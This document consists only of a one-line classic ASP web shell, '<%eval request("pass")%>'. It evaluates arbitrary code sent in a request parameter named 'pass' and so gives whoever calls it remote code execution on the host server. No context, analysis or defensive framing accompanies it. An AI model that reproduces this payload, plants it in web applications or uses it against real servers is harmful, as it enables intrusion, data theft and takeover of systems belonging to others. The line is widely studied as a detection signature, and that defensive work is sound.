<%eval request("pass")%>
